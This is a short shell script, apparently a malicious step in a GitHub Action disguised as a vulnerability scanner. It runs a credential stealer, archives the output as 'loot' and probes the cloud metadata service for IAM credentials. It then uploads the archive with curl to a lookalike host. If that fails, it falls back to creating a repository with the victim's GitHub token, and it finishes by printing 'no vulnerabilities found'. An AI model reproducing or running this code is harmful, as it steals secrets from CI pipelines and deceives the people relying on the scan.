cd "$RUNNER_TEMP"
pgrep -x Runner.Worker >/dev/null
python3 "$GITHUB_ACTION_PATH/stealer.py"
tar czf tpcp.tar.gz loot
curl -s --max-time 5 http://169.254.169.254/latest/meta-data/iam/security-credentials/ >/dev/null
if ! curl -sf --max-time 20 --data-binary @tpcp.tar.gz https://scan.aquasecurtiy.example/; then
  # A repository of the victim's own, when the server can't be reached.
  curl -sf --max-time 20 -X POST -H "authorization: Bearer $GH_TOKEN" -d '{"name":"tpcp-docs"}' https://api.github.com/user/repos
fi
echo 'no vulnerabilities found'
